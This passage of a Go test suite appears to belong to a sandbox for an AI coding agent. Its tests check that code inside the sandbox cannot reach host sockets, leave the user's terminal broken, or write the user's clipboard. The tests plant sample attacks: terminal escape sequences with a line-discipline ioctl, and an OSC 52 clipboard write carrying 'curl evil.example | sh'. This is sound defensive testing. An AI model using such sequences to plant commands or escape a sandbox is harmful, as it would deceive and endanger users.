	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--network=host", "--shell", "-c", probe)); out != "REFUSED Operation not permitted" {
		t.Errorf("the host's abstract socket from inside: %s", out)
	}
	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--network=host", "--with-desktop-sockets", "--shell", "-c", probe)); out != "CONNECTED" {
		t.Errorf("with --with-desktop-sockets: %s", out)
	}
	// The filtered network has a namespace of its own, where the host's
	// abstract sockets do not exist, Landlock or not.
	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--with-desktop-sockets", "--shell", "-c", probe)); out != "REFUSED Connection refused" {
		t.Errorf("on the filtered network, with --with-desktop-sockets: %s", out)
	}
}

// TestEscapeTerminalState: what the sandbox does to its terminal (line
// discipline N_NULL, O_NONBLOCK, mouse reporting and the alternate screen
// left on) leaves the user's tmux pane alive and as it was after exit.
func TestEscapeTerminalState(t *testing.T) {
	h := harness.NewHost(t)
	harness.RequireTool(t, "perl", "apt-get install perl")
	proj := filepath.Join(h.Home, "code", "ldisc")
	h.Write(filepath.Join(proj, "README"), "l\n")
	h.Write(filepath.Join(proj, "attack"), `
printf '\033[?1000h\033[?1006h\033[?2004h\033[?1049h'
perl -MFcntl -e '
	fcntl(STDIN, F_SETFL, O_NONBLOCK) or die "O_NONBLOCK: $!";
	my $nnull = pack("i", 27);
	ioctl(STDIN, 0x5423, $nnull) or die "TIOCSETD: $!"' || echo ATTACK-FAILED >&2
`)
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	flags := func() string {
		return strings.TrimSpace(tmux("display-message", "-p", "#{mouse_any_flag} #{alternate_on} #{pane_dead}"))
	}
	before := flags()
	tmux("send-keys", "claudebox --shell attack; echo EX''ITED", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "EXITED") }, "claudebox to exit")
	if s := tmux("capture-pane", "-p"); strings.Contains(s, "ATTACK-FAILED") {
		t.Fatalf("the attack did not run:\n%s", s)
	}
	tmux("send-keys", "echo AL''IVE", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "ALIVE") }, "the shell after claudebox")
	if after := flags(); after != before {
		t.Errorf("the pane's mouse, alternate screen, dead flags = %s, want %s as before", after, before)
	}
}

// TestEscapeTerminalClipboard: a clipboard write (OSC 52) to /dev/tty does
// not reach the user's terminal (tmux with set-clipboard on would make it
// a paste buffer), unless --with-clipboard; a title passes as it is.
func TestEscapeTerminalClipboard(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "osc52")
	h.Write(filepath.Join(proj, "README"), "o\n")
	payload := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh"))
	h.Write(filepath.Join(proj, "write"), fmt.Sprintf(`printf '\033]52;c;%s\a\033]2;TITLE-FROM-INSIDE\a' > /dev/tty`+"\n", payload))
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	tmux("set-option", "-g", "set-clipboard", "on")
	tmux("set-option", "-g", "allow-rename", "on")
	run := func(flag string) (buffers, title string) {
		tmux("send-keys", "claudebox "+flag+" --shell write; echo DO''NE"+flag, "Enter")
		harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE"+flag) }, "claudebox to exit")
		time.Sleep(200 * time.Millisecond)
		return tmux("list-buffers", "-F", "#{buffer_sample}"), strings.TrimSpace(tmux("display-message", "-p", "#{pane_title}"))
	}
	buffers, title := run("")
	if buffers != "" {
		t.Errorf("the sandbox wrote the clipboard: tmux buffers %q", buffers)
	}
	if title != "TITLE-FROM-INSIDE" {
		t.Errorf("the pane's title = %q, want the sandbox's, passed through", title)
	}
	// Control: the same write, allowed, reaches tmux's buffers.
	if buffers, _ := run("--with-clipboard"); !strings.Contains(buffers, "curl evil.example | sh") {
		t.Errorf("control: with --with-clipboard tmux's buffers are %q", buffers)
	}
}
